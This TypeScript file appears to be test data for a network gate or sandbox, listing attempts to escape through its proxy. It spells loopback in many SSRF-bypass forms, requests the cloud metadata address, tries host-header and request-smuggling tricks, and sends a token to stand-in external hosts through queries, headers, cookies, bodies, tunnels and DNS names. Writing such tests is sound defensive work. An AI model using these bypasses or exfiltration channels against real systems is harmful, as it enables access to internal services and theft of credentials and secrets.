/**
 * Attempts through the gate's own proxy: the host's loopback and the cloud's metadata in every
 * spelling, and data that requests carry. Data only.
 */
import type { EscapeAttempt } from "./attempt.js";

/** Spellings of the host's loopback, where a service listens on port 7101. */
const SPELLINGS: Readonly<Record<string, string>> = {
  plain: "127.0.0.1",
  short: "127.1",
  "hex-short": "0x7f.1",
  hex: "0x7f000001",
  octal: "0177.0.0.1",
  decimal: "2130706433",
  name: "localhost",
  "name-dot": "localhost.",
  any: "0.0.0.0",
  v6: "[::1]",
  "v6-any": "[::]",
  mapped: "[::ffff:127.0.0.1]",
  "mapped-hex": "[::ffff:7f00:1]",
  "own-address": "192.0.2.1",
  rebinding: "rebind.test",
  nul: "127.0.0.1\\0.public.test",
  "wide-digits": "127.0.0.\u{ff11}",
};

const at = (verb: string, target: string): readonly string[] => [
  "proxy.mjs",
  verb,
  "{proxyPort}",
  target,
  "{token}",
];
const gate = { aspects: [], provenBy: "arrival" } as const;

/**
 * A public host of somebody else's, and names below one: a gate with the policy that `acp init`
 * writes asks before anything reaches them.
 */
const ELSEWHERE = "9.9.9.9:7001";
const NAMED = "{token}.leak.example";

/**
 * What carries a secret to a host that anybody can set up, each in a request that a client may call
 * reading.
 */
const LEAKS: readonly EscapeAttempt[] = [
  { ...gate, id: "leak-query", title: "puts data into a query", run: at("leak-query", ELSEWHERE) },
  { ...gate, id: "leak-path", title: "puts data into a path", run: at("get", ELSEWHERE) },
  {
    ...gate,
    id: "leak-header",
    title: "puts data into a header",
    run: at("leak-header", ELSEWHERE),
  },
  {
    ...gate,
    id: "leak-cookie",
    title: "puts data into a cookie",
    run: at("leak-cookie", ELSEWHERE),
  },
  {
    ...gate,
    id: "leak-user-agent",
    title: "puts data into the name of its client",
    run: at("leak-user-agent", ELSEWHERE),
  },
  {
    ...gate,
    id: "leak-get-body",
    title: "puts data into the body of a GET",
    run: at("leak-get-body", ELSEWHERE),
  },
  {
    ...gate,
    id: "leak-post",
    title: "puts data into the body of a POST",
    run: at("leak-post", ELSEWHERE),
  },
  { ...gate, id: "leak-head", title: "puts data into a HEAD", run: at("leak-head", ELSEWHERE) },
  {
    ...gate,
    id: "leak-tunnel",
    title: "sends data through a tunnel",
    run: at("connect", ELSEWHERE),
  },
  { ...gate, id: "leak-name", title: "puts data into a host's name", run: at("get", NAMED) },
  {
    ...gate,
    id: "leak-tunnel-name",
    title: "puts data into the name of a tunnel's host",
    run: at("connect", `${NAMED}:443`),
  },
];

export const PROXY_ATTEMPTS: readonly EscapeAttempt[] = [
  ...Object.entries(SPELLINGS).map(
    ([name, host]): EscapeAttempt => ({
      ...gate,
      id: `proxy-${name}`,
      title: `asks the proxy for ${host.replaceAll("\\0", "<NUL>")}`,
      run: at("connect", `${host}:7101`),
    }),
  ),
  {
    ...gate,
    id: "proxy-get",
    title: "fetches from the host's loopback",
    run: at("get", "127.0.0.1:7101"),
  },
  {
    ...gate,
    id: "proxy-userinfo",
    title: "fetches with a user name that looks like a host",
    run: at("get", "public.test@127.0.0.1:7101"),
  },
  {
    ...gate,
    id: "proxy-metadata",
    title: "asks the proxy for the cloud's metadata",
    run: at("connect", "169.254.169.254:80"),
  },
  {
    ...gate,
    id: "proxy-metadata-get",
    title: "fetches the cloud's metadata",
    run: at("get", "169.254.169.254"),
  },
  {
    ...gate,
    id: "proxy-metadata-mapped",
    title: "fetches the metadata by IPv6",
    run: at("get", "[::ffff:169.254.169.254]"),
  },
  {
    ...gate,
    id: "proxy-host-header",
    title: "names another host in the header",
    run: at("host", "127.0.0.1:7101"),
  },
  {
    ...gate,
    id: "proxy-tunnel-header",
    title: "names another host in a tunnel's header",
    run: at("connecthost", "127.0.0.1:7101"),
  },
  {
    ...gate,
    id: "proxy-origin-form",
    title: "leaves the address to the header",
    run: at("origin", "127.0.0.1:7101"),
  },
  {
    ...gate,
    id: "proxy-second",
    title: "hides a request behind another",
    run: at("second", "127.0.0.1:7101"),
  },
  ...LEAKS,
  {
    ...gate,
    id: "proxy-smuggled",
    title: "hides a request in a body",
    run: at("smuggled", "127.0.0.1:7101"),
  },
];
